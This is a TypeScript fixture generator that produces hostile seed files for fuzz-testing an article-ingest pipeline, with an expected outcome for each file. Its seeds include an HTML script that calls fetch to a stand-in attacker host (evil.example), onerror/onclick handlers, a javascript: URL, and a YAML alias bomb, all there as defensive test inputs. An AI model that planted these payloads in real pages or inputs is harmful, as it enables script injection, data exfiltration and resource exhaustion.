import { createSeededRandom, type SeededRandom } from '../../bench/corpus/createSeededRandom.js';

/**
 * Hostile seed files for the fuzz test, generated deterministically: random bytes, invalid
 * UTF-8, NUL bytes, empty and blank files, one 50 MB single-line file, deeply nested and
 * script-laden HTML, YAML alias bombs, bidi overrides, control characters, unsupported types,
 * and real articles duplicated under other names. Each says what ingest must do with it.
 */

export type Expectation =
  | { outcome: 'ingested' }
  | { outcome: 'skipped'; reason: RegExp }
  /** Either is fine (random content may happen to be valid), but a skip must give a reason. */
  | { outcome: 'either' };

export type HostileSeed = {
  name: string;
  bytes: Buffer;
  expect: Expectation;
  /** Files with the same group have identical bytes: exactly one of them may be indexed. */
  duplicateGroup?: string;
};

/** Text that must never reach the index (it only appears inside <script>, <style> or event handlers). */
export const SCRIPT_MARKER = 'zqxscriptmarker';

const SENTENCES = [
  'Pemerintah Niger mencabut perjanjian keamanan dengan Uni Eropa pada awal Desember.',
  'Delegasi Rusia bertemu pemimpin militer di Niamey untuk membahas kerja sama pertahanan.',
  'وصلت القوات الروسية إلى القاعدة الجوية في النيجر بعد انسحاب القوات الأمريكية.',
  'The ministry said the agreement would cover training, equipment and regional security.',
  'Para analis menilai langkah itu menandai pergeseran besar dalam kebijakan luar negeri.',
  'وقال المتحدث إن التعاون الدفاعي سيستمر مع الدول الإفريقية في المستقبل القريب.',
];

const utf8 = (text: string) => Buffer.from(text, 'utf8');

function prose(random: SeededRandom, sentences = random.between(3, 8)): string {
  return Array.from({ length: sentences }, () => random.pick(SENTENCES)).join(' ');
}

function article(random: SeededRandom, n: number): string {
  return `Laporan khusus nomor ${n}\n\n${prose(random)}\n\n${prose(random)}\n`;
}

function randomBytes(random: SeededRandom, length: number): Buffer {
  const bytes = Buffer.alloc(length);
  for (let i = 0; i < length; i++) bytes[i] = random.between(0, 255);
  return bytes;
}

const EXTENSIONS = ['.txt', '.md', '.html', '.htm', '.markdown'];

type Make = (random: SeededRandom, n: number) => HostileSeed | HostileSeed[];

const makers: Make[] = [
  (r, n) => ({ name: `random-${n}${r.pick(EXTENSIONS)}`, bytes: randomBytes(r, r.between(1, 4096)), expect: { outcome: 'either' } }),
  (r, n) => {
    // An Arabic sentence makes it UTF-8 beyond doubt: ASCII with stray high bytes could be any legacy charset, and is decoded.
    const text = utf8(`${article(r, n)}\n${SENTENCES[2]}\n`);
    const at = r.between(0, text.length - 1);
    return {
      name: `bad-utf8-${n}.txt`,
      bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0xc3, 0x28, 0xff]), text.subarray(at)]),
      expect: { outcome: 'skipped', reason: /not valid UTF-8/ },
    };
  },
  (r, n) => {
    const text = utf8(article(r, n));
    const at = r.between(0, text.length - 1);
    return {
      name: `nul-${n}.md`,
      bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0]), text.subarray(at)]),
      expect: { outcome: 'skipped', reason: /NUL/ },
    };
  },
  (_r, n) => ({ name: `empty-${n}.txt`, bytes: Buffer.alloc(0), expect: { outcome: 'skipped', reason: /empty/ } }),
  (r, n) => ({
    name: `blank-${n}.html`,
    bytes: utf8(' \n\t\r\n'.repeat(r.between(1, 50))),
    expect: { outcome: 'skipped', reason: /empty/ },
  }),
  (r, n) => ({
    name: `controls-${n}.txt`,
    bytes: utf8(Array.from({ length: 400 }, (_, i) => (i % 3 === 0 ? '\u0001' : 'a')).join('') + prose(r)),
    expect: { outcome: 'skipped', reason: /binary|control/ },
  }),
  (r, n) => {
    const depth = r.between(2_000, 60_000);
    return {
      name: `nested-${n}.html`,
      bytes: utf8(`<html><body>${'<div>'.repeat(depth)}<p>${prose(r)}</p>${'</div>'.repeat(r.next() < 0.5 ? depth : 0)}</body></html>`),
      expect: { outcome: 'skipped', reason: /nested/ },
    };
  },
  (r, n) => {
    const script = `<script>document.write("${SCRIPT_MARKER}");fetch("https://evil.example/${SCRIPT_MARKER}")</script>`;
    const html = `<html><head>${script}<style>.${SCRIPT_MARKER}{}</style></head><body>${script.repeat(r.between(1, 300))}<article><h1>Judul berita ${n}</h1><p>${prose(r)}</p>${script}<p onclick="${SCRIPT_MARKER}()">${prose(r)}</p></article><img src=x onerror="${SCRIPT_MARKER}"></body></html>`;
    return { name: `scripts-${n}.html`, bytes: utf8(html), expect: { outcome: 'ingested' } };
  },
  (r, n) => {
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 9; i++)
      levels.push(
        `${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(9)
          .fill(`*${'abcdefghi'[i - 1]}`)
          .join(',')}]`,
      );
    return {
      name: `yaml-bomb-${n}.md`,
      bytes: utf8(`---\n${levels.join('\n')}\ntitle: Bom YAML ${n}\n---\n\n${prose(r)}\n`),
      expect: { outcome: 'ingested' },
    };
  },
  (r, n) => ({
    name: `bidi-${n}.txt`,
    bytes: utf8(`Judul \u202Eesrever\u202C nomor ${n}\n\n${prose(r)} \u202Eteks terbalik\u202C \u2066diisolasi\u2069 \u200F${prose(r)}\n`),
    expect: { outcome: 'ingested' },
  }),
  (r, n) => ({
    name: `unsupported-${n}${r.pick(['.pdf', '.docx', '.json', '', '.exe'])}`,
    bytes: utf8(article(r, n)),
    expect: { outcome: 'skipped', reason: /unsupported file type/ },
  }),
  (r, n) => ({
    name: `many-lines-${n}.txt`,
    bytes: utf8('a\n'.repeat(r.between(50_000, 200_000))),
    expect: { outcome: 'skipped', reason: /no article text/ },
  }),
  (r, n) => ({
    name: `broken-html-${n}.html`,
    bytes: utf8(`<p>${prose(r)}<div><table><tr><td>${prose(r)}</b></i></span><!-- <p>${'&amp;'.repeat(r.between(1, 2000))}`),
    expect: { outcome: 'either' },
  }),
  (r, n) => ({
    name: `front-matter-${n}.md`,
    bytes: utf8(`---\ntitle: [unclosed\nurl: javascript:alert(1)\n---\n\n${prose(r)}\n`),
    expect: { outcome: 'skipped', reason: /front-matter/ },
  }),
  (r, n) => {
    const bytes = utf8(article(r, n));
    const group = `dup-${n}`;
    return [
      { name: `dup-${n}-original.txt`, bytes, expect: { outcome: 'either' }, duplicateGroup: group },
      { name: `copies/dup-${n} copy.txt`, bytes, expect: { outcome: 'either' }, duplicateGroup: group },
      { name: `copies/nested/dup-${n}-ünïcödé.md`, bytes, expect: { outcome: 'either' }, duplicateGroup: group },
    ];
  },
  (r, n) => ({ name: `ok-${n}.txt`, bytes: utf8(article(r, n)), expect: { outcome: 'ingested' } }),
];

/** At least `count` hostile files (duplicates come in threes), plus the single 50 MB line. */
export function generateHostileSeeds(count: number, seed = 1): HostileSeed[] {
  const random = createSeededRandom(seed);
  const seeds: HostileSeed[] = [];
  for (let n = 0; seeds.length < count; n++) {
    const made = makers[n % makers.length]!(random, n);
    seeds.push(...(Array.isArray(made) ? made : [made]));
  }
  seeds.push({
    name: 'one-line-50mb.txt',
    bytes: Buffer.alloc(50 * 1024 * 1024, 'kata '),
    expect: { outcome: 'skipped', reason: /too large/ },
  });
  return seeds;
}
